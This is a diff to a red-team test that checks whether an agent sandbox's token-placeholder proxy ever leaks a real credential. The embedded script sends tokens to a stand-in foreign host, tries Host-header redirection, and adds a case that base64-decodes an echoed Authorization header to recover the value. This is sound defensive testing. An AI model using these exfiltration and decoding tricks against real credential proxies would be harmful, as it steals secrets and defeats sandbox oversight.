@@ -218,10 +218,23 @@ send("http://other.svc.test:8000/b", data=("token=" + ph).encode())
 send("http://other.svc.test:8000/a", headers={"Authorization": "Basic " + base64.b64encode(("u:" + ph).encode()).decode()})
 # 6. the listed host, but asked to forward it elsewhere (Host header of another name)
 send("https://api.svc.test:8443/x", headers={"Host": "other.svc.test:8000", "Authorization": "Bearer " + ph})
+# 7. the listed host echoing what it got, the value in base64 (Basic user:token): decode what comes back
+send("https://api.svc.test:8443/echo", headers={"Authorization": "Basic " + base64.b64encode(("u:" + ph).encode()).decode()})
+import json as _json
+echoed = _json.loads(found[-1])["authorization"].split()[1]
+for pad in ("", "=", "=="):
+    try:
+        found.append(base64.b64decode(echoed + pad, altchars=b"*-"))
+    except Exception:
+        pass
 blob = b"\n".join(found)
 print("CODES", codes)
 print("SCANNED", len(blob))
-print("LEAK" if b"ghs_REAL_" in blob else "NOLEAK")
+needle = ("ghs_" + "REAL_").encode()  # the real value's start (spelled apart: this script is in /proc too)
+print("LEAK" if needle in blob else "NOLEAK")
+for i, item in enumerate(found):
+    if needle in item:  # where (a failing test says it, never the value)
+        print("FOUND IN", i, len(found), item[:item.find(needle)][-80:])
 '''
 
 
@@ -234,7 +247,7 @@ def test_red_team_the_agent_never_gets_the_real_value(servers, tmp_path, monkeyp
         lines = dict(line.split(" ", 1) for line in out.splitlines() if line.startswith(("CODES", "SCANNED")))
         assert "NOLEAK" in out.splitlines(), out
         assert int(lines["SCANNED"]) > 100_000  # it really read things
-        assert lines["CODES"] == "[403, 403, 403, 403, 421]", out
+        assert lines["CODES"] == "[403, 403, 403, 403, 421, 200]", out
     got = seen(servers)[before:]
     assert not [g for g in got if g["port"] == 8000], "a placeholder reached a host it is not for"
     assert all(REAL not in json.dumps(g) for g in got)
